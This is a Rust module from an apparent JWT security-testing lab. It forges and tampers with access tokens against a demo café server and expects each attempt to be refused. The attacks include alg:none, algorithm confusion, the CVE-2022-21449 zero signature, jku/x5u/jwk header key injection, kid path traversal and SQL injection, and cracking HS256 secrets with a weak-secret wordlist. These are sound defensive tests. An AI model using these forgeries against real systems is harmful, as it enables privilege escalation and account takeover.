//! Attacks on the access token itself: forging, tampering, confusing the
//! verifier about the algorithm or the key, and tokens that are well signed
//! but wrong (expired, for someone else, of the wrong type).

use attack_lab::{
    Attack, Call, Family, Lab, LabError, LabResult, Outcome, Targets, judge, judge_all,
};
use jwt::forge::{
    assemble, b64, crack_hs256, hmac_signed, public_key_spellings, segment, with_claims,
};
use serde_json::{Value, json};

const RFC_8725_ALGORITHMS: &str = "RFC 8725 §3.1, §3.2; ASVS 5.0 9.1.1, 9.1.2";
const RFC_8725_KEYS: &str = "RFC 8725 §3.10; ASVS 5.0 9.1.3";
const ADMIN_ONLY: &str = "/users";

/// A key only the attacker knows.
const ATTACKER_KEY: &[u8] = b"the attacker's own key, 32 bytes or more";

/// Secrets people really sign tokens with: from tutorials, defaults and
/// leaked configuration. A real wordlist has millions; the idea is the same.
pub const WEAK_SECRETS: &[&str] = &[
    "secret",
    "secret123",
    "password",
    "changeme",
    "your-256-bit-secret",
    "your_jwt_secret",
    "jwt-secret",
    "jwtsecret",
    "supersecret",
    "mysecret",
    "secretkey",
    "secret-key",
    "key",
    "test",
    "admin",
    "cafe",
    "cafe-secret",
    "development",
    "default",
    "qwerty",
    "123456",
    "letmein",
    "hello",
    "s3cr3t",
    "shhhhh",
    "keyboard cat",
    "my-secret-key",
    "JWT_SECRET",
    "SECRET_KEY",
    "a-string-secret-at-least-256-bits-long",
];

const FAMILY: Family = Family::Jwt;

/// The JWT attacks.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "jwt-alg-none",
        family: FAMILY,
        attempt: "an unsigned token (`alg: none`) claiming the admin role",
        defence: "401: `none` is not on the algorithm allowlist",
        source: RFC_8725_ALGORITHMS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(alg_none(lab)),
    },
    Attack {
        name: "jwt-alg-none-spellings",
        family: FAMILY,
        attempt: "`None`, `NONE`, `nOnE`: the same, for verifiers that compare case-sensitively",
        defence: "401 for every spelling",
        source: RFC_8725_ALGORITHMS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(alg_none_spellings(lab)),
    },
    Attack {
        name: "jwt-signature-stripped",
        family: FAMILY,
        attempt: "a real token's header and admin claims with the signature removed",
        defence: "401: a token without a valid signature is nothing",
        source: "RFC 7515 §5.2; ASVS 5.0 9.1.1",
        targets: Targets::Tokens,
        run: |lab| Box::pin(signature_stripped(lab)),
    },
    Attack {
        name: "jwt-signature-truncated",
        family: FAMILY,
        attempt: "a real token with the end of its signature cut off",
        defence: "401",
        source: "RFC 7515 §5.2; ASVS 5.0 9.1.1",
        targets: Targets::Tokens,
        run: |lab| Box::pin(signature_truncated(lab)),
    },
    Attack {
        name: "jwt-role-tampered",
        family: FAMILY,
        attempt: "a real token with `role` changed to admin, signature kept",
        defence: "401: the signature no longer matches",
        source: "ASVS 5.0 9.1.1",
        targets: Targets::Tokens,
        run: |lab| Box::pin(role_tampered(lab)),
    },
    Attack {
        name: "jwt-subject-tampered",
        family: FAMILY,
        attempt: "a real token with `sub` changed to another user, signature kept",
        defence: "401",
        source: "ASVS 5.0 9.1.1",
        targets: Targets::Tokens,
        run: |lab| Box::pin(subject_tampered(lab)),
    },
    Attack {
        name: "jwt-expiry-extended",
        family: FAMILY,
        attempt: "a real token with `exp` moved a year ahead, signature kept",
        defence: "401",
        source: "ASVS 5.0 9.1.1, 9.2.1",
        targets: Targets::Tokens,
        run: |lab| Box::pin(expiry_extended(lab)),
    },
    Attack {
        name: "jwt-signed-with-attacker-key",
        family: FAMILY,
        attempt: "admin claims, correctly HS256-signed with a key the attacker made up",
        defence: "401: only the server's keys count",
        source: "ASVS 5.0 9.1.1, 9.1.3",
        targets: Targets::Tokens,
        run: |lab| Box::pin(signed_with_attacker_key(lab)),
    },
    Attack {
        name: "jwt-empty-hmac-key",
        family: FAMILY,
        attempt: "admin claims HS256-signed with an empty key, under the server's `kid`",
        defence: "401: an HS256 key is at least 256 bits, and an empty one is no key",
        source: "RFC 7518 §3.2; jwt_tool's blank-password check",
        targets: Targets::Tokens,
        run: |lab| Box::pin(empty_hmac_key(lab)),
    },
    Attack {
        name: "jwt-psychic-signature",
        family: FAMILY,
        attempt: "admin claims with the ES256 signature r = 0, s = 0",
        defence: "401: r and s must lie in [1, n − 1] (CVE-2022-21449 accepted zeros)",
        source: "RFC 7518 §3.4; CVE-2022-21449",
        targets: Targets::ECDSA,
        run: |lab| Box::pin(psychic_signature(lab)),
    },
    Attack {
        name: "jwt-weak-secret-wordlist",
        family: FAMILY,
        attempt: "crack the HS256 secret offline from one captured token with a wordlist",
        defence: "no candidate matches: the café refuses to start with a secret under 256 bits",
        source: "RFC 8725 §3.5; RFC 7518 §3.2",
        targets: Targets::HS256,
        run: |lab| Box::pin(weak_secret_wordlist(lab)),
    },
    Attack {
        name: "jwt-algorithm-confusion",
        family: FAMILY,
        attempt: "admin claims HS256-signed with the server's published public key as the HMAC \
            secret",
        defence: "401: the key's algorithm is fixed; the header does not choose it",
        source: RFC_8725_ALGORITHMS,
        targets: Targets::PUBLIC_KEY,
        run: |lab| Box::pin(algorithm_confusion(lab)),
    },
    Attack {
        name: "jwt-alg-swapped",
        family: FAMILY,
        attempt: "a real token relabelled with each other algorithm (HS256/384/512, RS256, PS256, \
            ES256, EdDSA), signature kept",
        defence: "401 for every label but the key's own",
        source: RFC_8725_ALGORITHMS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(alg_swapped(lab)),
    },
    Attack {
        name: "jwt-header-jwk",
        family: FAMILY,
        attempt: "admin claims signed with the attacker's key, that key embedded in the header \
            (`jwk`)",
        defence: "401: keys come from the server's configuration, never from the token",
        source: RFC_8725_KEYS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(header_jwk(lab)),
    },
    Attack {
        name: "jwt-header-jku",
        family: FAMILY,
        attempt: "admin claims signed with the attacker's key, `jku` pointing at the attacker's \
            key set (a URL the lab watches)",
        defence: "401, and nothing fetched",
        source: RFC_8725_KEYS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(header_jku(lab)),
    },
    Attack {
        name: "jwt-header-x5u",
        family: FAMILY,
        attempt: "the same with `x5u`, a URL of the attacker's certificate",
        defence: "401, and nothing fetched",
        source: RFC_8725_KEYS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(header_x5u(lab)),
    },
    Attack {
        name: "jwt-header-x5c",
        family: FAMILY,
        attempt: "the same with `x5c`, a certificate chain in the header",
        defence: "401",
        source: RFC_8725_KEYS,
        targets: Targets::Tokens,
        run: |lab| Box::pin(header_x5c(lab)),
    },
    Attack {
        name: "jwt-kid-path-traversal",
        family: FAMILY,
        attempt: "`kid: ../../../../dev/null` and a signature made with an empty key",
        defence: "401: `kid` only picks among keys the server holds",
        source: "RFC 8725 §3.10; OWASP JWT Cheat Sheet",
        targets: Targets::Tokens,
        run: |lab| Box::pin(kid_path_traversal(lab)),
    },
    Attack {
        name: "jwt-kid-injection",
        family: FAMILY,
        attempt: "`kid: x' UNION SELECT 'attacker-key' --` and a signature made with that key",
        defence: "401: `kid` is never used in a query or a path",
        source: "RFC 8725 §3.10",
        targets: Targets::Tokens,
        run: |lab| Box::pin(kid_injection(lab)),
    },
];

/// Applies to token servers signing with one of `algorithms`.
/// A real access token, taken apart.
pub struct Captured {
    /// The token as issued.
    pub token: String,
    /// Its header.
    pub header: Value,
    /// Its claims.
    pub claims: Value,
    /// Its signature segment.
    pub signature: String,
}

impl Captured {
    /// The claims with `changes` made.
    pub fn claims_with(&self, changes: &[(&str, Value)]) -> Value {
        with_claims(&self.claims, changes)
    }

    /// The claims with `role: admin`: what most forgeries are after.
    pub fn admin_claims(&self) -> Value {
        self.claims_with(&[("role", json!("admin"))])
    }

    /// When the server issued the token: its clock, not ours.
    pub fn issued_at(&self) -> i64 {
        self.claims["iat"].as_i64().unwrap_or(0)
    }

    /// The claims a key holder signs: these, with the issuer and audience
    /// the profile's `[token]` names (where it names them), and then
    /// `changes`.
    pub fn key_holder_claims(&self, lab: &Lab, changes: &[(&str, Value)]) -> Value {
        let mut claims = self.claims.clone();
        if let (Some(token), Some(members)) = (&lab.profile().token, claims.as_object_mut()) {
            for (name, value) in [("iss", &token.issuer), ("aud", &token.audience)] {
                if let Some(value) = value {
                    members.insert(name.to_owned(), json!(value));
                }
            }
        }
        with_claims(&claims, changes)
    }
}

/// Logs the profile's member (the café's alice) in and takes her access
/// token apart, as anyone holding it can.
pub async fn capture(lab: &Lab) -> Result<Captured, LabError> {
    let member = lab.member().name.clone();
    let token = lab.log_in(&member).await?.access_token()?.to_owned();
    let (header, claims) = jwt::anatomy::decode_unverified(&token).map_err(|e| e.to_string())?;
    let signature = token.rsplit('.').next().unwrap_or_default().to_owned();
    Ok(Captured {
        token,
        header,
        claims,
        signature,
    })
}

/// The header a forged token claims: HS256, an access token, the server's
/// `kid` (so only the signature can give it away), plus `extra`.
fn forged_header(captured: &Captured, extra: &[(&str, Value)]) -> Value {
    let mut header = json!({
        "alg": "HS256",
        "typ": "at+jwt",
        "kid": captured.header["kid"].clone(),
    });
    for (name, value) in extra {
        header[*name] = value.clone();
    }
    header
}

/// `claims_text`, signed with the server's own key under `header` (to which
/// the key's `alg` and `kid` are added: no `kid` for a key without one).
/// `None` if the lab has no key.
pub fn key_holder_signed(
    lab: &Lab,
    header: Value,
    claims_text: &str,
) -> Option<Result<String, LabError>> {
    let key = lab.signing_key()?;
    let mut header = header;
    header["alg"] = json!(key.algorithm().as_str());
    if !key.kid().is_empty() {
        header["kid"] = json!(key.kid());
    }
    let input = format!("{}.{}", segment(&header), b64(claims_text.as_bytes()));
    Some(
        key.signature(&input)
            .map(|signature| format!("{input}.{signature}"))
            .map_err(|e| e.to_string()),
    )
}

/// The verdict of an attack that needs the server's signing key, which the
/// lab was not given.
pub fn needs_key() -> Outcome {
    Outcome::Skipped(
        "needs the server's signing key to test the rules behind the signature: give \
            an HS256 server's secret with `--jwt-secret-file`; the lab takes no ES256 or \
            EdDSA private key, so against those only the test suite runs this"
            .to_owned(),
    )
}

/// Sends `token` as a bearer token to `path`; it must be refused with 401.
pub async fn presented(lab: &Lab, token: &str, path: &str) -> LabResult {
    let reply = lab.send(Call::get(path).bearer(token)).await?;
    judge(&reply, &[401], &format!("GET {path} accepted the token"))
}

/// The `typ` header of a key holder's access token: the profile's
/// `[token]` type (none for untyped tokens), or, for a profile without a
/// `[token]` table, what the server's own access token carries.
pub fn key_holder_typ(lab: &Lab) -> Option<String> {
    match &lab.profile().token {
        Some(token) => token.typ.clone(),
        None => lab
            .issued_header()
            .and_then(|header| header["typ"].as_str())
            .map(str::to_owned),
    }
}

/// The key holder's version of an attack: sign `claims` under an access
/// token header ([`key_holder_typ`]) plus `extra_header`, and present it.
pub async fn key_holder_attack(
    lab: &Lab,
    extra_header: &[(&str, Value)],
    claims: String,
) -> LabResult {
    let mut header = json!({});
    if let Some(typ) = key_holder_typ(lab) {
        header["typ"] = json!(typ);
    }
    for (name, value) in extra_header {
        header[*name] = value.clone();
    }
    match key_holder_signed(lab, header, &claims) {
        Some(token) => presented(lab, &token?, "/me").await,
        None => Ok(needs_key()),
    }
}

// ANCHOR: alg_none
async fn alg_none(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let header = json!({ "alg": "none", "typ": "at+jwt" });
    presented(
        lab,
        &assemble(&header, &captured.admin_claims(), ""),
        ADMIN_ONLY,
    )
    .await
}
// ANCHOR_END: alg_none

async fn alg_none_spellings(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let mut verdicts = Vec::new();
    for alg in ["None", "NONE", "nOnE"] {
        let header = json!({ "alg": alg, "typ": "at+jwt", "kid": captured.header["kid"] });
        let token = assemble(&header, &captured.admin_claims(), "");
        verdicts.push(presented(lab, &token, ADMIN_ONLY).await?);
    }
    judge_all(verdicts)
}

async fn signature_stripped(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let token = assemble(&captured.header, &captured.admin_claims(), "");
    presented(lab, &token, ADMIN_ONLY).await
}

async fn signature_truncated(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let cut = captured.token.len().saturating_sub(10);
    presented(lab, &captured.token[..cut], "/me").await
}

async fn role_tampered(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let token = assemble(
        &captured.header,
        &captured.admin_claims(),
        &captured.signature,
    );
    presented(lab, &token, ADMIN_ONLY).await
}

async fn subject_tampered(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let claims = captured.claims_with(&[("sub", json!("admin")), ("role", json!("admin"))]);
    let token = assemble(&captured.header, &claims, &captured.signature);
    presented(lab, &token, "/me").await
}

async fn expiry_extended(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let a_year_on = captured.claims["exp"].as_i64().unwrap_or(0) + 365 * 24 * 3600;
    let claims = captured.claims_with(&[("exp", json!(a_year_on))]);
    let token = assemble(&captured.header, &claims, &captured.signature);
    presented(lab, &token, "/me").await
}

async fn signed_with_attacker_key(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let token = hmac_signed(
        &forged_header(&captured, &[]),
        &captured.admin_claims(),
        ATTACKER_KEY,
    );
    presented(lab, &token, ADMIN_ONLY).await
}

async fn empty_hmac_key(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let token = hmac_signed(
        &forged_header(&captured, &[]),
        &captured.admin_claims(),
        b"",
    );
    presented(lab, &token, ADMIN_ONLY).await
}

// ANCHOR: psychic
/// CVE-2022-21449: Java 15–18 accepted an ECDSA signature of all zeros for
/// any message and any key. A verifier must check that r and s lie in
/// [1, n − 1] before it does any arithmetic.
async fn psychic_signature(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let zeros = b64(&[0u8; 64]);
    let token = assemble(&captured.header, &captured.admin_claims(), &zeros);
    presented(lab, &token, ADMIN_ONLY).await
}
// ANCHOR_END: psychic

async fn weak_secret_wordlist(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    Ok(match crack_hs256(&captured.token, WEAK_SECRETS) {
        Some(secret) => Outcome::Accepted(format!("the secret is {secret:?}")),
        None => Outcome::Refused(format!(
            "none of {} candidate secrets signs the token",
            WEAK_SECRETS.len()
        )),
    })
}

/// The byte strings a confused verifier might take as the HMAC secret,
/// from a published JWK: its JSON, its coordinates as text and as bytes,
/// and the uncompressed point.
// ANCHOR: algorithm_confusion
async fn algorithm_confusion(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let jwks = lab.send(Call::get("/.well-known/jwks.json")).await?.body;
    let Some(jwk) = jwks["keys"].as_array().and_then(|keys| keys.first()) else {
        return Err("the server publishes no public key".to_owned());
    };
    let mut verdicts = Vec::new();
    for secret in public_key_spellings(jwk) {
        let header = forged_header(&captured, &[]);
        let token = hmac_signed(&header, &captured.admin_claims(), &secret);
        verdicts.push(presented(lab, &token, ADMIN_ONLY).await?);
    }
    judge_all(verdicts)
}
// ANCHOR_END: algorithm_confusion

async fn alg_swapped(lab: &Lab) -> LabResult {
    let captured = capture(lab).await?;
    let own = captured.header["alg"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let mut verdicts = Vec::new();
    for alg in [
        "HS256", "HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA",
    ] {
        if alg == own {
            continue;
        }
        let mut header = captured.header.clone();
        header["alg"] = json!(alg);
        let token = assemble(&header, &captured.claims, &captured.signature);
        verdicts.push(presented(lab, &token, "/me").await?);
    }
    judge_all(verdicts)
}

// ANCHOR: header_keys
async fn header_key_attack(lab: &Lab, member: &str, value: Value) -> LabResult {
    let captured = capture(lab).await?;
    let header = forged_header(&captured, &[(member, value)]);
    let token = hmac_signed(&header, &captured.admin_claims(), ATTACKER_KEY);
    presented(lab, &token, ADMIN_ONLY).await
}
// ANCHOR_END: header_keys

async fn header_jwk(lab: &Lab) -> LabResult {
    let jwk = json!({ "kty": "oct", "kid": "attacker", "k": b64(ATTACKER_KEY) });
    header_key_attack(lab, "jwk", jwk).await
}

// ANCHOR: canary
/// A URL on the lab's machine that notices being fetched: a verifier that
/// follows `jku` or `x5u` connects to it (a server-side request forgery, even
/// if the token is then refused).
struct Canary {
    listener: std::net::TcpListener,
}

impl Canary {
    fn new() -> Result<Canary, LabError> {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").map_err(|e| e.to_string())?;
        listener.set_nonblocking(true).map_err(|e| e.to_string())?;
        Ok(Canary { listener })
    }

    fn url(&self, path: &str) -> Result<String, LabError> {
        let address = self.listener.local_addr().map_err(|e| e.to_string())?;
        Ok(format!("http://{address}{path}"))
    }

    /// Whether anything has connected since it was made.
    fn was_fetched(&self) -> bool {
        self.listener.accept().is_ok()
    }
}

/// A token whose header points `member` at the canary: refused, and the
/// canary never fetched. Against a server on another machine the canary
/// would be that machine's own loopback, which the lab cannot watch.
async fn header_url_attack(lab: &Lab, member: &str, path: &str) -> LabResult {
    let canary = Canary::new()?;
    let verdict = header_key_attack(lab, member, json!(canary.url(path)?)).await?;
    Ok(match verdict {
        _ if canary.was_fetched() => {
            Outcome::Accepted(format!("the server fetched the `{member}` URL"))
        }
        Outcome::Refused(how) if lab.target_is_local() => {
            Outcome::Refused(format!("{how}; the {member} URL was never fetched"))
        }
        other => other,
    })
}
// ANCHOR_END: canary

async fn header_jku(lab: &Lab) -> LabResult {
    header_url_attack(lab, "jku", "/.well-known/jwks.json").await
}

async fn header_x5u(lab: &Lab) -> LabResult {
    header_url_attack(lab, "x5u", "/cert.pem").await
}

async fn header_x5c(lab: &Lab) -> LabResult {
    // Not a real certificate: a verifier that trusts x5c would have to parse
    // it to find out, and the café never gets that far.
    let chain = json!([b64(b"an attacker's self-signed certificate")]);
    header_key_attack(lab, "x5c", chain).await
}

async fn kid_path_traversal(lab: &Lab) -> LabResult {
    // A verifier that reads the key from a file named by `kid` gets an
    // empty one here.
    kid_attack(lab, "../../../../../../dev/null", b"").await
}

async fn kid_injection(lab: &Lab) -> LabResult {
    // A verifier that looks the key up in SQL by `kid` gets this string.
    kid_attack(lab, "x' UNION SELECT 'attacker-key' --", b"attacker-key").await
}

/// Admin claims whose header names `kid`, HMAC-signed with the key a naive
/// verifier would find under that name.
async fn kid_attack(lab: &Lab, kid: &str, key_it_would_find: &[u8]) -> LabResult {
    let captured = capture(lab).await?;
    let mut header = forged_header(&captured, &[]);
    header["kid"] = json!(kid);
    let token = hmac_signed(&header, &captured.admin_claims(), key_it_would_find);
    presented(lab, &token, ADMIN_ONLY).await
}
